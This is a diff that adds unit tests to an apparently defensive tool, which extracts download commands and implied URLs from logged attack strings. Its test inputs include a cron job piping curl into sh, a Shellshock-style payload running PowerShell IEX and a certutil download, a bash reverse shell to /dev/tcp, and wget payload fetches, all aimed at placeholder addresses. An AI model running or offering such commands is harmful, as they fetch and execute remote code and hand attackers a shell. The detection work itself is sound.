@@ -33,6 +33,26 @@ describe('download commands', () => {
       .toEqual([]);
   });
 
+  it('starts a crontab line at its command, without the schedule or user', () => {
+    expect(downloadCommands('*/2 * * * * root curl -fsSL http://198.51.100.40/cr.sh | sh'))
+      .toEqual(['curl -fsSL http://198.51.100.40/cr.sh']);
+    expect(downloadCommands('nn*/2 * * * * root curl -fsSL http://198.51.100.40/cr.sh'))
+      .toEqual(['curl -fsSL http://198.51.100.40/cr.sh']);
+    expect(downloadCommands('@reboot wget -q http://198.51.100.41/r -O /tmp/r'))
+      .toEqual(['wget -q http://198.51.100.41/r -O /tmp/r']);
+  });
+
+  it('leaves out the shell wrapper and a quote left unmatched', () => {
+    expect(downloadCommands(`() { :; }; /bin/bash -c "powershell -c IEX((New-Object `
+      + `Net.WebClient).DownloadString('http://198.51.100.14/p.ps1')); certutil -urlcache -f `
+      + `http://198.51.100.15/a.exe a.exe"`)).toEqual([
+      "powershell -c IEX((New-Object Net.WebClient).DownloadString('http://198.51.100.14/p.ps1'))",
+      'certutil -urlcache -f http://198.51.100.15/a.exe a.exe',
+    ]);
+    expect(downloadCommands('sh -c "id; bash -i >& /dev/tcp/198.51.100.17/4444 0>&1"'))
+      .toEqual(['bash -i >& /dev/tcp/198.51.100.17/4444 0>&1']);
+  });
+
   it('bounds a command and its look-back', () => {
     const long = downloadCommands(`${'x'.repeat(5000)} wget http://198.51.100.1/${'a'.repeat(5000)}`);
     expect(long).toHaveLength(1);
@@ -88,6 +108,13 @@ describe('URLs that tftp and ftpget commands mean', () => {
     expect(impliedUrl('ftpget -v -u anonymous -p anonymous -P 21 198.51.100.3 a.sh a.sh'))
       .toBe('ftp://198.51.100.3:21/a.sh');
     expect(impliedUrl('ftpget 198.51.100.3 local /pub/remote')).toBe('ftp://198.51.100.3/pub/remote');
+  });
+
+  it('builds http:// from a scheme-less wget or curl target', () => {
+    expect(impliedUrl('wget 198.51.100.13/jaws')).toBe('http://198.51.100.13/jaws');
+    expect(impliedUrl('curl -s -o x example.com:8080/b/x.sh')).toBe('http://example.com:8080/b/x.sh');
+    expect(impliedUrl('wget -O /tmp/x 198.51.100.13')).toBeNull();
+    expect(impliedUrl('wget http://198.51.100.13/a')).toBeNull();
   });
 
   it('gives nothing without a host or a file', () => {
